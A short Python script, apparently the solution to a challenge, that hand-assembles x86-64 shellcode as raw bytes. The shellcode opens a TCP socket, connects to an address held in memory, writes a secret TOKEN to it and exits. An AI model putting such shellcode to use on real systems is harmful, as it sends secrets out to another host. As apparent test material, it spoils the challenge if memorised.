"""Run a program of a few bytes that calls the kernel itself."""

import struct

from _machine import attempt_program
from _way import TOKEN


def code(data):
    """Connect, write, exit."""
    little = struct.Struct('<I').pack
    return (b'\xbf' + little(2) + b'\xbe' + little(1) + b'\x31\xd2'
            b'\xb8' + little(41) + b'\x0f\x05' b'\x89\xc3'
            b'\x89\xdf' b'\xbe' + little(data) + b'\xba' + little(16)
            + b'\xb8' + little(42) + b'\x0f\x05'
            b'\x89\xdf' b'\xbe' + little(data + 16) + b'\xba' + little(len(TOKEN))
            + b'\xb8' + little(1) + b'\x0f\x05'
            b'\x89\xc7\x29\xd7' b'\xb8' + little(60) + b'\x0f\x05')


attempt_program(64, code)
